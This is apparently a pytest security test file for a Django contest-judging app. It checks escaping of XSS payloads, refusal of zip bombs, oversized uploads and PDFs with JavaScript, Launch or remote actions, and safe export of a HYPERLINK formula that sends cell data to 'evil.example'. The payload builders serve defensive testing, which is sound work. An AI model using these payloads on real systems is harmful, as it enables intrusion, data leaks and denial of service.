"""Hostile input: script in every text shown back, bombs and oversized files, formula cells,
and the API fuzzed from its own OpenAPI schema."""

import io
import json
import time
import tracemalloc
import zipfile

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import NoReverseMatch, reverse
from hypothesis import HealthCheck, given, settings

from judging.models import Scorecard
from submissions.enums import Status
from submissions.filetypes import PDF, Verdict, sniff
from submissions.models import Attachment, ImportJob, ReviewLog
from tests.factories import SubmissionFactory
from tests.world import build_world

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
RAW = ("<script>alert(1)", "<img src=x onerror")
ESCAPED = ("&lt;script&gt;alert(1)&lt;/script&gt;", "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;")


def hostile_world():
    world = build_world(
        enterprise=f"甲{SCRIPT}公司",
        group=f"小组{IMG}",
        title=f"题目{SCRIPT}",
        member=f"成员{IMG}",
        contact=f"联系{SCRIPT}",
        comment=f"评语{IMG}",
        objector=f"异议人{IMG}",
        grounds=f"理由{SCRIPT}",
    )
    ReviewLog.objects.create(
        submission=world.entry_a,
        actor=world.users["organizer"],
        from_status=Status.SUBMITTED,
        to_status=Status.ADMITTED,
        message=f"意见{SCRIPT}{IMG}",
    )
    return world


def logged_in(world, role) -> Client:
    client = Client()
    if world.users[role] is not None:
        client.force_login(world.users[role])
    return client


def pages(world):
    """(role, url) of every page that shows the hostile texts back, or might."""
    slug = world.event.slug
    return [
        ("enterprise_a", reverse("submissions:dashboard")),
        ("enterprise_a", reverse("submissions:entry", args=[world.entry_a.pk])),
        ("organizer", reverse("submissions_orga:entries", args=[slug])),
        ("organizer", reverse("submissions_orga:entry", args=[slug, world.entry_a.pk])),
        ("organizer", reverse("schedule:overview", args=[slug])),
        ("organizer", reverse("schedule:venue", args=[slug, 1])),
        ("organizer", reverse("schedule:print", args=[slug, 1])),
        ("organizer", reverse("judging:control_room", args=[slug])),
        ("organizer", reverse("judging_documents:documents", args=[slug])),
        ("judge_v1", reverse("judging:venue", args=[world.venue1.pk])),
        ("judge_v1", reverse("judging:scorecard", args=[world.entry_a.pk])),
        ("chair_v1", reverse("judging:chair", args=[world.venue1.pk])),
        ("chair_v1", reverse("judging:chair_card", args=[world.venue1.pk, world.card_v1.pk])),
        ("anonymous", reverse("schedule:public", args=[slug])),
        ("anonymous", reverse("schedule:public", args=[slug]) + "?q=%3Cscript%3E"),
        ("anonymous", reverse("judging:screen", args=[slug, 1])),
        ("anonymous", reverse("judging_documents:verify", args=[world.certificate.verify_code])),
        ("anonymous", "/verify/%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E/"),
        *optional(
            ("organizer", "awards:orga", [slug]),
            ("organizer", "awards:objection", [slug, world.objection.pk]),
            ("organizer", "awards:override", [slug, world.entry_a.code]),
            ("anonymous", "awards_public:results", [slug]),
            ("enterprise_a", "awards_public:results", [slug]),
        ),
    ]


def optional(*pages):
    """Return (role, url) of the pages whose URL names exist (the award pages may not yet)."""
    found = []
    for role, name, args in pages:
        try:
            found.append((role, reverse(name, args=args)))
        except NoReverseMatch:
            continue
    return found


@pytest.mark.django_db
def test_hostile_text_is_escaped_on_every_page_that_shows_it():
    world = hostile_world()
    leaks, unseen = [], []
    # Pages that show only codes and counts here: checked for leaks, not for the text.
    quiet = {
        reverse("schedule:overview", args=[world.event.slug]),
        reverse("judging:control_room", args=[world.event.slug]),
        reverse("judging:chair", args=[world.venue1.pk]),
        reverse("judging:screen", args=[world.event.slug, 1]),
    }
    for role, url in pages(world):
        response = logged_in(world, role).get(url)
        assert response.status_code in {200, 404}, (url, response.status_code)
        body = response.content.decode()
        leaks += [f"{url}: {raw}" for raw in RAW if raw in body]
        if url not in quiet and not any(escaped in body for escaped in ESCAPED):
            unseen.append(url)
    assert leaks == []
    # Each page (but those showing only codes and counts) shows a hostile field, escaped.
    assert unseen == [], unseen


@pytest.mark.django_db
def test_hostile_text_is_escaped_in_the_api():
    world = hostile_world()
    response = logged_in(world, "judge_v1").get(reverse("judging:api_venues"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    entry = json.loads(response.content)[0]["running_order"][0]
    assert entry["group"] == f"小组{IMG}"  # JSON data, escaped by whoever renders it


# Workbooks and files ------------------------------------------------------------------


@pytest.fixture(scope="module")
def zip_bomb() -> bytes:
    """Return a 1 MB-ish .xlsx whose single sheet unpacks to 1 GiB."""
    buffer = io.BytesIO()
    chunk = b" " * (16 * 1024 * 1024)
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as bomb:
        bomb.writestr("[Content_Types].xml", "<Types/>")
        with bomb.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            for _ in range(64):
                sheet.write(chunk)
    return buffer.getvalue()


@pytest.mark.django_db
@pytest.mark.parametrize("page", ["submissions_orga:import", "judging:import_scores"])
def test_zip_bomb_workbook_is_refused_before_it_is_opened(page, zip_bomb):
    world = build_world()
    assert len(zip_bomb) < 6 * 1024 * 1024
    started = time.monotonic()
    response = logged_in(world, "organizer").post(
        reverse(page, args=[world.event.slug]),
        {"file": SimpleUploadedFile("entries.xlsx", zip_bomb)},
    )
    assert time.monotonic() - started < 5
    assert response.status_code == 200
    errors = response.context["form"].errors["file"]
    assert errors == [
        "工作簿解压后达 1024 MB，超过上限 200 MB（疑似压缩炸弹），已拒绝；请另存为普通 .xlsx 后重新上传"
    ]
    assert ImportJob.objects.filter(original_name="entries.xlsx").count() == 1  # the world's own


def test_oversized_workbook_is_refused_by_its_size(tmp_path):
    from submissions.excel import workbook_problem

    path = tmp_path / "big.xlsx"
    with open(path, "wb") as big:
        big.write(b"PK\x03\x04")
        big.truncate(25 * 1024 * 1024)
    with open(path, "rb") as upload:
        assert workbook_problem(upload) == "文件大小 25.0 MB 超过上限 20 MB"
        assert upload.tell() == 0


def test_truncated_workbook_is_refused_as_damaged():
    from submissions.excel import workbook_problem

    assert workbook_problem(io.BytesIO(b"PK\x03\x04" + b"\x00" * 100)) == (
        "文件已损坏，无法作为 Excel 工作簿（.xlsx）读取"
    )


def multipart_file(path, *, boundary: str, size: int) -> int:
    """Write a multipart body with a `size`-byte PDF-looking file (sparse on disk)."""
    with open(path, "wb") as body:
        body.write(
            (
                f'--{boundary}\r\nContent-Disposition: form-data; name="kind"\r\n\r\nreport\r\n'
                f'--{boundary}\r\nContent-Disposition: form-data; name="file"; '
                'filename="big.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\n'
            ).encode()
        )
        body.seek(size, io.SEEK_CUR)
        body.write(f"\n%%EOF\r\n--{boundary}--\r\n".encode())
        return body.tell()


@pytest.mark.django_db
def test_200_mb_upload_is_refused_by_size_without_holding_it_in_memory(tmp_path):
    world = build_world()
    draft = SubmissionFactory(
        event=world.event, category=world.entry_a.category, enterprise=world.enterprise_a,
        status=Status.DRAFT, code="",
    )  # fmt: skip
    client = logged_in(world, "enterprise_a")
    boundary = "qcxBoundary7MA4YWxk"
    length = multipart_file(tmp_path / "body", boundary=boundary, size=200 * 1024 * 1024)
    with open(tmp_path / "body", "rb") as stream:
        environ = client._base_environ(
            PATH_INFO=reverse("submissions:attachment_upload", args=[draft.pk]),
            REQUEST_METHOD="POST",
            CONTENT_TYPE=f"multipart/form-data; boundary={boundary}",
            CONTENT_LENGTH=str(length),
            HTTP_ACCEPT="application/json",
            **{"wsgi.input": stream},
        )
        tracemalloc.start()
        response = client.handler(environ)
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    # Refused from the declared length, before the body is parsed and spooled.
    assert response.status_code == 413
    error = json.loads(response.content)["error"]
    assert error == "文件大小 200.0 MB 超过上限 50 MB"
    assert peak < 20 * 1024 * 1024
    assert draft.attachments.count() == 0


def pdf_with_script(*, packed: bool) -> bytes:
    buffer = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")
        )
        mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
        pdf.save(buffer, object_stream_mode=mode, compress_streams=packed)
    return buffer.getvalue()


def pdf_with_page_action() -> bytes:
    buffer = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        action = pdf.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))
        )
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=action)
        pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "content", [pdf_with_script(packed=False), pdf_with_script(packed=True), pdf_with_page_action()]
)
def test_pdf_with_script_or_auto_action_is_refused(content):
    verdict = sniff(io.BytesIO(content))
    assert verdict.content_type is None
    assert verdict.problem == (
        "PDF 含有 JavaScript 脚本或自动执行的动作，出于安全原因不予接受；请用“打印为 PDF”重新生成后上传"
    )


def pdf_with_nested_script(depth: int = 45) -> bytes:
    """Return a PDF whose /OpenAction hides JavaScript behind ``depth`` nested /Next actions."""
    buffer = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        for _ in range(depth):
            action = pikepdf.Dictionary(
                S=pikepdf.Name.GoTo, D=pikepdf.Array([0, pikepdf.Name.Fit]), Next=action
            )
        pdf.Root.OpenAction = action
        pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return buffer.getvalue()


def pdf_with_embedded_file() -> bytes:
    buffer = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not a report", filename="run.exe")
        pdf.attachments["run.exe"] = spec
        pdf.save(buffer)
    return buffer.getvalue()


def pdf_with_attachment_annotation() -> bytes:
    buffer = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        annotation = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.FileAttachment,
            Rect=pikepdf.Array([0, 0, 10, 10]),
        )
        pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annotation]))
        pdf.save(buffer)
    return buffer.getvalue()


def pdf_with_remote_goto() -> bytes:
    buffer = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil.example\\share\\x.pdf"),
            D=pikepdf.Array([0, pikepdf.Name.Fit]),
        )  # fmt: skip
        pdf.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("content", [pdf_with_nested_script(45), pdf_with_remote_goto()])
def test_pdf_with_script_behind_45_nested_actions_or_remote_goto_is_refused(content):
    verdict = sniff(io.BytesIO(content))
    assert verdict == Verdict(
        None,
        "PDF 含有 JavaScript 脚本或自动执行的动作，出于安全原因不予接受；请用“打印为 PDF”重新生成后上传",
    )


@pytest.mark.parametrize("content", [pdf_with_embedded_file(), pdf_with_attachment_annotation()])
def test_pdf_with_embedded_file_is_refused(content):
    verdict = sniff(io.BytesIO(content))
    assert verdict == Verdict(
        None, "PDF 含有嵌入的文件（附件），出于安全原因不予接受；请用“打印为 PDF”重新生成后上传"
    )


def test_pdf_with_deep_harmless_nesting_and_links_is_accepted():
    buffer = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org"))
        for _ in range(200):
            action = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0]), Next=action)
        pdf.Root.OpenAction = action
        pdf.save(buffer)
    assert sniff(io.BytesIO(buffer.getvalue())) == Verdict(PDF, None)


@pytest.mark.django_db
def test_pdf_with_script_upload_is_refused_with_a_message():
    world = build_world()
    draft = SubmissionFactory(
        event=world.event, category=world.entry_a.category, enterprise=world.enterprise_a,
        status=Status.DRAFT, code="",
    )  # fmt: skip
    response = logged_in(world, "enterprise_a").post(
        reverse("submissions:attachment_upload", args=[draft.pk]),
        {"kind": "report", "file": SimpleUploadedFile("x.pdf", pdf_with_script(packed=True))},
        HTTP_ACCEPT="application/json",
    )
    assert response.status_code == 400
    assert "JavaScript" in json.loads(response.content)["error"]
    assert Attachment.objects.filter(submission=draft).count() == 0


# Formula injection in exports --------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


def formula_cells(content: bytes) -> list[tuple[str, str, str]]:
    """Return (sheet, cell, data type) of every cell holding the hostile text."""
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(content))
    return [
        (sheet.title, cell.coordinate, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]


@pytest.mark.django_db
@pytest.mark.parametrize("export", ["submissions_orga:export", "schedule:export", "awards:export"])
def test_formula_text_goes_out_as_text_in_every_export(export):
    world = build_world(title=FORMULA, group=FORMULA, enterprise=FORMULA)
    try:
        url = reverse(export, args=[world.event.slug])
    except NoReverseMatch:
        pytest.skip(f"{export} is not in the URL configuration")
    response = logged_in(world, "organizer").get(url)
    assert response.status_code == 200
    cells = formula_cells(response.content)
    assert len(cells) >= 3
    assert {data_type for _, _, data_type in cells} == {"s"}


# The API fuzzed from its own schema ---------------------------------------------------


def _fuzz_all(schema, world, headers, cookies, seen):
    for result in schema.get_all_operations():
        operation = result.ok()

        @settings(
            max_examples=40,
            derandomize=True,
            database=None,
            deadline=None,
            suppress_health_check=list(HealthCheck),
        )
        @given(case=operation.as_strategy())
        def fuzz(case):
            if "submission_id" in (case.path_parameters or {}):
                case.path_parameters["submission_id"] = world.entry_a.pk
            response = case.call(headers=headers, cookies=cookies)
            key = f"{case.method} {case.path}"
            seen.setdefault(key, set()).add(response.status_code)
            assert response.status_code < 500, (key, case.body, response.text[:500])

        fuzz()


@pytest.mark.django_db(transaction=False)
def test_api_fuzzed_from_its_openapi_schema_never_answers_500():
    import schemathesis
    from django.core.wsgi import get_wsgi_application

    world = build_world()
    client = logged_in(world, "judge_v1")
    client.get(reverse("judging:venue", args=[world.venue1.pk]))
    session = client.cookies["sessionid"].value
    csrf = "a" * 32
    headers = {"X-CSRFToken": csrf}
    cookies = {"sessionid": session, "csrftoken": csrf}
    from django.core import signals
    from django.db import close_old_connections

    # Called straight through WSGI, each request would close the test's connection (it is
    # inside the test transaction); Django's own test client detaches these handlers too.
    signals.request_started.disconnect(close_old_connections)
    signals.request_finished.disconnect(close_old_connections)
    try:
        app = get_wsgi_application()
        schema = schemathesis.openapi.from_wsgi("/api/schema/?format=json", app)
        seen = {}
        _fuzz_all(schema, world, headers, cookies, seen)
    finally:
        signals.request_started.connect(close_old_connections)
        signals.request_finished.connect(close_old_connections)
    assert set(seen) == {
        "POST /api/judge/entries/{submission_id}/draft/",
        "GET /api/judge/entries/{submission_id}/sheet/",
        "POST /api/judge/scorecards/",
        "GET /api/judge/venues/",
    }
    # The fuzzing reached the views as the signed-in judge, not only the authentication.
    assert 200 in seen["GET /api/judge/venues/"]
    assert seen["POST /api/judge/scorecards/"] - {401, 403}
    assert Scorecard.objects.filter(judge=world.judge_v2).count() == 1  # venue 2 untouched
